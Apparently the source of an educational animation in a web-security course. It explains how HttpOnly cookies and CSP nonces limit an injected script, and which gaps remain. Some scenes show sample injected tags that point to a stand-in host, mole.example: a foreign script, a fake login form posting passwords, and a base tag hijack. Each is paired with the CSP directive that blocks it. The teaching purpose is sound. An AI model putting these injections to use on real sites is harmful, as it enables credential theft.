// Defences after XSS: what HttpOnly hides from a script, what a nonce refuses, and what both leave open.
import { colour, ease, shown } from './stage.mjs';

const you = [190, 262];
const far = [1080, 262];
const nonces = ['k7Fq2xVd0Tn4aRwE5mJh8g==', 'Zb91mUqH6sLc3YpJx2Nt7Q=='];

/** Draws the policy of an answer, and the scripts in its page: each with its nonce, and whether it may run. */
function answerCard(s, t, x, at, name, nonce, scripts) {
  s.fade(shown(t, at), () => {
    s.card(x, 150, 540, 402, { stroke: colour.line });
    s.mono(name, x + 32, 190, { size: 18, fill: colour.ink3, spacing: 2 });
    s.mono('Content-Security-Policy:', x + 32, 234, { size: 18, fill: colour.ink2 });
    s.pieces(
      [
        ["script-src 'nonce-", colour.ink],
        [nonce, colour.beacon],
        ["'", colour.ink],
      ],
      x + 32,
      266,
      18,
    );
  });
  scripts.forEach(([who, tag, has, step], index) => {
    const y = 296 + index * 124;
    const runs = has === nonce;
    const done = ease(t, at + step + 1.2, at + step + 1.7);
    const hue = done > 0.5 ? (runs ? colour.phosphor : colour.coral) : colour.line;
    s.fade(shown(t, at + step), () => {
      s.card(x + 20, y, 500, 108, { stroke: hue, cut: 14, fill: colour.sea });
      s.mono(who, x + 44, y + 36, { size: 16, fill: colour.ink3, spacing: 1 });
      s.mono(tag, x + 44, y + 66, { size: 19, fill: runs ? colour.ink : colour.coral });
      if (has) s.pieces([['nonce="'], [has, runs ? colour.beacon : colour.coral], ['">']], x + 44, y + 93, 19);
      s.fade(done, () => {
        if (runs) s.tick(x + 478, y + 54, 34, colour.phosphor);
        else s.cross(x + 478, y + 54, 14);
      });
    });
  });
}

/** Draws a row of the last scene: the injected tag, its effect, and the directive that stops it. */
function open(s, t, at, y, tag, result, cure) {
  s.fade(shown(t, at), () => {
    s.card(84, y, 1112, 118, { stroke: colour.coral });
    s.mono(tag, 116, y + 46, { size: 24, fill: colour.coral });
    s.text(result, 116, y + 90, { size: 25, fill: colour.ink2 });
  });
  s.fade(shown(t, at + 2.2), () => {
    if (cure) s.chip(cure, 1164 - (cure.length * 14.4 + 32) / 2, y + 58, colour.phosphor, 24);
    else s.text('no header for that', 1164, y + 66, { size: 26, align: 'right', fill: colour.beacon });
  });
}

export const film = {
  out: 'curriculum/in-the-browser/words-that-run/videos/the-second-fence',
  poster: 37.5,
  bitrate: 38_000,
  scenes: [
    {
      title: 'One place was forgotten',
      length: 10.5,
      captions: [
        [0.3, 4.4, 'A site prints texts of its users in 91 places.\nIn 90 of them, it encodes the five characters.'],
        [
          4.6,
          10.3,
          'In one it does not. So a foreign script is in the page.\nWhat can the site still do without the first fence?',
        ],
      ],
      draw(s, t) {
        for (let index = 0; index < 91; index += 1) {
          const row = Math.floor(index / 13);
          const x = 350 + (index % 13) * 46 + (row % 2) * 23;
          const y = 180 + row * 46;
          const hole = index === 59;
          const alpha = shown(t, 0.4 + index * 0.025, Infinity, 0.3);
          const bad = hole ? shown(t, 4.6) : 0;
          s.fade(alpha, () => {
            s.hex(x, y, 22, { fill: colour.surface, stroke: colour.phosphor });
            s.tick(x, y, 20, colour.phosphor);
            s.fade(bad, () => {
              s.hex(x, y, 22, { fill: '#2a1a2a', stroke: colour.coral });
              s.cross(x, y, 7);
            });
          });
        }
        s.fade(shown(t, 5.4), () => {
          s.rule(
            [
              [672, 386],
              [672, 520],
            ],
            { stroke: colour.coral, progress: ease(t, 5.4, 6.2) },
          );
          s.chip('<script>go()</script>', 672, 536, colour.coral);
        });
      },
    },
    {
      title: 'A cookie that scripts do not see',
      length: 15,
      captions: [
        [0.3, 4.6, 'The ticket is marked HttpOnly. The script asks\nfor the cookies, and the ticket isn’t among them.'],
        [4.8, 8, 'The script can’t steal it\nfor use on another machine.'],
        [8.2, 14.8, 'But the script runs in Mara’s page. Its requests\ncarry the ticket, and it reads the answers.'],
      ],
      draw(s, t) {
        s.depths([
          [you[0], you[1], 50],
          [far[0], far[1], 50],
        ]);
        s.rule([you, far], { dash: [3, 10], width: 3, stroke: colour.ink3 });
        s.place(...you, { icon: 'script', name: 'in Mara’s page', hue: colour.coral, r: 50 });
        s.place(...far, { name: 'harbour.example', hue: colour.beacon, r: 50, live: t > 10.6 && t < 12 });
        s.card(84, 410, 500, 142, { stroke: colour.phosphor });
        s.mono('THE JAR', 116, 448, { size: 18, fill: colour.ink3, spacing: 2 });
        s.mono('sid=ax2W', 116, 490, { size: 26, fill: colour.phosphor });
        s.chip('HttpOnly', 350, 482, colour.phosphor, 20);
        s.mono('theme=dark', 116, 530, { size: 26, fill: colour.ink2 });
        s.fade(shown(t, 1.2), () => {
          s.card(650, 410, 546, 142, { stroke: colour.coral });
          s.mono('THE SCRIPT', 682, 448, { size: 18, fill: colour.ink3, spacing: 2 });
          s.mono('document.cookie', 682, 490, { size: 26, fill: colour.coral });
          s.fade(shown(t, 2.6), () => s.mono('→ "theme=dark"', 682, 530, { size: 26 }));
        });
        s.fade(shown(t, 3.6, 8.2), () => s.cross(617, 481, 14));
        const out = ease(t, 8.4, 11);
        s.packet(you, far, out, 'GET /letters', colour.coral);
        s.packet(you, far, out, 'Cookie: sid=ax2W', colour.phosphor, -44);
        s.packet(far, you, ease(t, 11.4, 13.6), 'Dear Mara …', colour.beacon);
        s.fade(shown(t, 13.4), () => s.chip('Dear Mara …', 190, 176, colour.coral, 20));
      },
    },
    {
      title: 'A new nonce for each answer',
      length: 16,
      captions: [
        [0.3, 4.4, 'The page has a policy: scripts run only\nif they carry this word, the nonce.'],
        [
          4.6,
          8.6,
          'The site’s own script has it. The script in the comment\ndoes not, because it is older than the word.',
        ],
        [
          8.8,
          15.8,
          'The mole reads Monday’s word in his own copy of the page\nand uses it. The next answer has another word.',
        ],
      ],
      draw(s, t) {
        answerCard(s, t, 84, 0.4, 'AN ANSWER ON MONDAY', nonces[0], [
          ['THE SITE’S OWN', '<script src="/app.js"', nonces[0], 3],
          ['THE COMMENT’S', '<script>go()</script>', '', 4.8],
        ]);
        answerCard(s, t, 656, 9, 'AN ANSWER ON TUESDAY', nonces[1], [
          ['THE SITE’S OWN', '<script src="/app.js"', nonces[1], 1.2],
          ['THE COMMENT’S', '<script src="//mole.example/go.js"', nonces[0], 2.6],
        ]);
      },
    },
    {
      title: 'Three gaps remain',
      length: 15,
      captions: [
        [
          0.3,
          4.8,
          'No foreign script runs. The comment is still part of\nthe page, and a form can send passwords without a script.',
        ],
        [
          5,
          9.6,
          'A base tag changes every relative address: the browser\nloads the site’s own script from the mole, with the nonce.',
        ],
        [
          9.8,
          14.8,
          'The policy has a line against each of these, but none\nagainst a false text. So the first fence matters most.',
        ],
      ],
      draw(s, t) {
        open(
          s,
          t,
          0.6,
          146,
          '<form action="https://mole.example/">',
          'A false log-in form sends the password to the mole',
          "form-action 'self'",
        );
        open(
          s,
          t,
          5,
          286,
          '<base href="https://mole.example/">',
          '/app.js comes from mole.example, and its nonce fits',
          "base-uri 'none'",
        );
        open(s, t, 9.8, 426, '<p>The office has moved. Pay at …</p>', 'Mara pays the mole');
      },
    },
  ],
};
